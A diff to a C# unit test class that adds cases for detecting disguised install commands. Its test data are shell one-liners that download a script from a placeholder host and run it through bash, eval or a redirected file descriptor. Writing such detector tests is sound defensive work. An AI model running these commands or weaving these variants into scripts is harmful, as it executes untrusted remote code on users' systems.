@@ -9,6 +9,9 @@ public sealed class DisguisedInstallTests
 {
     [Theory]
     [InlineData("load() { wget -qO- \"$1\"; }; load https://a.b/s | bash")]
+    [InlineData("bash -c 'curl https://a.b/s | bash; {0}'")]
+    [InlineData("curl https://a.b/s | \"$SHELL\"")]
+    [InlineData("bash -c 'curl https://a.b/s | bash; if'")]
     [InlineData("read -r -d '' text < <(curl https://a.b/s); eval \"$text\"")]
     [InlineData("mapfile lines < <(wget -qO- https://a.b/s); eval \"${lines[*]}\"")]
     [InlineData("exec 7< <(curl https://a.b/s); sh <&7")]
